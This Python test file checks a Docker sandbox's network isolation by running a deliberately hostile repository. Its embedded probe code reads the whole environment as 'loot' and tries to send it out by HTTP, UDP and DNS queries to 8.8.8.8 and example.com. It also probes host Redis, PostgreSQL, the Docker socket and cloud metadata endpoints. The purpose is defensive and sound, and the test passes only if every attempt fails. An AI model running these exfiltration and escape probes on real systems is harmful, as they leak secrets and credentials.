"""Network: nothing inside the sandbox reaches the host, its services or the internet.

One hostile repository whose tests each try an attack and pass only if it worked,
so the defence holding means every test fails with the error the attempt got. The
same probes run on the host first, against the servers this test starts, to show
they do detect a reachable service.
"""

from __future__ import annotations

import http.server
import ipaddress
import json
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import RepoFactory
from tests.hostile.conftest import FUNCTIONAL_ONLY, Hostile, judged

pytestmark = [pytest.mark.docker, pytest.mark.hostile]

# Runs on the host (the controls) and inside the sandbox (the attacks).
PROBES = r"""
import json, os, socket, urllib.request

TARGETS = json.load(open(os.path.join(os.path.dirname(__file__), "targets.json")))
LOOT = json.dumps(dict(os.environ))[:2000]


def tcp(host, port, timeout=2.0):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    try:
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(timeout)
            sock.connect((host, port))
            return "connected"
    except OSError as exc:
        return f"{type(exc).__name__}: {exc}"


def unix(path):
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.settimeout(2)
            sock.connect(path)
            return "connected"
    except OSError as exc:
        return f"{type(exc).__name__}: {exc}"


def http(url, data=None):
    try:
        with urllib.request.urlopen(url, data=data, timeout=3) as response:
            return f"status {response.status}"
    except Exception as exc:
        return f"{type(exc).__name__}: {exc}"


def udp(host, port, data):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.sendto(data, (host, port))
            return "sent"
    except OSError as exc:
        return f"{type(exc).__name__}: {exc}"


def resolve(name):
    try:
        return "resolved " + str(socket.getaddrinfo(name, 80)[0][4])
    except OSError as exc:
        return f"{type(exc).__name__}: {exc}"


def sweep(probe, ports, *args):
    return {f"{host}:{port}": probe(host, port, *args) for host in TARGETS["hosts"] for port in ports}
"""

TESTS = r"""
import socket
from probes import LOOT, TARGETS, http, resolve, sweep, tcp, udp, unix


def attack(results, good=("connected", "status 200", "sent", "resolved")):
    assert any(str(r).startswith(good) for r in results.values()), f"attack failed: {results}"


def test_http_exfiltration():
    attack({h: http(f"http://{h if ':' not in h else f'[{h}]'}:{TARGETS['http']}/loot", LOOT.encode())
            for h in TARGETS["hosts"]})


def test_udp_exfiltration():
    # To the sandbox's own loopback a datagram is "sent" but lands nowhere: not a way out.
    attack({h: udp(h, TARGETS["udp"], LOOT.encode()[:500])
            for h in TARGETS["hosts"] if h not in ("127.0.0.1", "::1")})


def test_dns_exfiltration():
    nameservers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04loot\x07example\x03com\x00\x00\x01\x00\x01"
    results = {ns: udp(ns, 53, query) for ns in nameservers + ["8.8.8.8", "1.1.1.1"]}
    results["getaddrinfo"] = resolve("loot-" + LOOT.encode().hex()[:40] + ".example.com")
    attack(results)


def test_host_redis():
    attack(sweep(tcp, [6379]))


def test_host_postgresql():
    attack(sweep(tcp, [5432]))


def test_docker_socket():
    results = {p: unix(p) for p in ("/var/run/docker.sock", "/run/docker.sock",
                                    "/run/containerd/containerd.sock")}
    results.update(sweep(tcp, [2375, 2376]))
    attack(results)


def test_cloud_metadata():
    results = {u: http(u) for u in ("http://169.254.169.254/latest/meta-data/",
                                    "http://metadata.google.internal/computeMetadata/v1/",
                                    "http://[fd00:ec2::254]/latest/meta-data/")}
    attack(results)


def test_listen_for_the_host():
    with socket.socket() as server:
        server.bind(("0.0.0.0", TARGETS["listen"]))
        server.listen()
        server.settimeout(4)
        try:
            peer = server.accept()[1]
        except OSError as exc:
            peer = None
            result = f"listened on port {TARGETS['listen']} for 4 s; {type(exc).__name__}: {exc}"
    attack({"listener": "connected" if peer else result})
"""


class _Recorder(http.server.BaseHTTPRequestHandler):
    requests: list[str]

    def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
        self._answer()

    def do_POST(self) -> None:  # noqa: N802
        self._answer()

    def _answer(self) -> None:
        type(self).requests.append(f"{self.command} {self.path} from {self.client_address[0]}")
        self.send_response(200)
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        return None


@pytest.fixture
def listeners() -> Iterator[dict[str, Any]]:
    """An HTTP server and a UDP socket on every host address, and a free port to knock on."""
    handler = type("Recorder", (_Recorder,), {"requests": []})
    server = http.server.ThreadingHTTPServer(("0.0.0.0", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind(("0.0.0.0", 0))
    datagrams.settimeout(0.1)
    knock = socket.socket()
    knock.bind(("127.0.0.1", 0))
    free = int(knock.getsockname()[1])
    knock.close()
    try:
        yield {"http": server, "requests": handler.requests, "udp": datagrams, "listen": free}
    finally:
        server.shutdown()
        server.server_close()
        datagrams.close()


def host_addresses() -> list[str]:
    """Every address of this host (from the kernel's tables) and the usual Docker gateway."""
    found = {"127.0.0.1", "::1", "172.17.0.1"}
    try:
        lines = Path("/proc/net/fib_trie").read_text().splitlines()
    except OSError:
        lines = []
    for previous, line in zip(lines, lines[1:], strict=False):
        if line.strip() == "/32 host LOCAL":
            found.add(previous.split()[-1])
    try:
        for line in Path("/proc/net/if_inet6").read_text().splitlines():
            address = ipaddress.IPv6Address(int(line.split()[0], 16))
            if not address.is_link_local:
                found.add(str(address))
    except (OSError, ValueError, IndexError):
        pass
    return sorted(found)


def knock(port: int, hosts: list[str], stop: threading.Event, reached: list[str]) -> None:
    """Keep trying to connect to the sandbox's listener from the host."""
    while not stop.is_set():
        for host in hosts:
            family = socket.AF_INET6 if ":" in host else socket.AF_INET
            with socket.socket(family) as sock:
                sock.settimeout(0.2)
                if sock.connect_ex((host, port)) == 0:
                    reached.append(host)
        time.sleep(0.1)


def test_no_way_out_of_the_sandbox(
    hostile: Hostile, make_repo: RepoFactory, listeners: dict[str, Any], tmp_path: Path
) -> None:
    hosts = host_addresses()
    targets = {
        "hosts": hosts,
        "http": listeners["http"].server_address[1],
        "udp": listeners["udp"].getsockname()[1],
        "listen": listeners["listen"],
    }
    repo = make_repo({
        "tests/targets.json": json.dumps(targets),
        "tests/probes.py": PROBES,
        "tests/test_attacks.py": TESTS,
    })  # fmt: skip

    # Controls: the same probes, run here, do reach this test's servers.
    (tmp_path / "targets.json").write_text(json.dumps(targets))
    probes: dict[str, Any] = {"__file__": str(tmp_path / "probes.py")}
    exec(compile(PROBES, "probes.py", "exec"), probes)  # noqa: S102 - our own probe code
    assert probes["http"](f"http://127.0.0.1:{targets['http']}/control") == "status 200"
    assert probes["udp"]("127.0.0.1", targets["udp"], b"control") == "sent"
    assert listeners["udp"].recv(100) == b"control"
    control = list(listeners["requests"])

    stop, reached = threading.Event(), []
    knocker = threading.Thread(target=knock, args=(targets["listen"], hosts, stop, reached))
    knocker.start()
    try:
        outcome = hostile.run(
            repo, hostile.spec(FUNCTIONAL_ONLY, functional="functional: {timeout: 45}\n")
        )
    finally:
        stop.set()
        knocker.join()

    judged(outcome, "TESTS_FAILED")
    functional = outcome.check("functional")
    assert functional["tests"]["passed"] == 0 and functional["tests"]["failed"] == 8, (
        outcome.explain()
    )
    messages = {f["id"].rsplit("::", 1)[1]: f["message"] for f in functional["failures"]}
    for name, message in messages.items():
        assert "attack failed" in message, f"{name} failed for another reason: {message}"
    # What each attempt got, as the sandbox saw it.
    assert "Network is unreachable" in messages["test_http_exfiltration"]
    assert "Network is unreachable" in messages["test_udp_exfiltration"]
    assert "gaierror" in messages["test_dns_exfiltration"]
    assert "ConnectionRefusedError" in messages["test_host_redis"]  # its own, empty loopback
    assert "Network is unreachable" in messages["test_host_postgresql"]
    assert "FileNotFoundError" in messages["test_docker_socket"]
    assert "listened on port" in messages["test_listen_for_the_host"]
    # And what reached the host: nothing but the controls.
    assert listeners["requests"] == control
    with pytest.raises(TimeoutError):
        listeners["udp"].recv(100)
    assert reached == [], f"the host reached the sandbox's listener via {reached}"
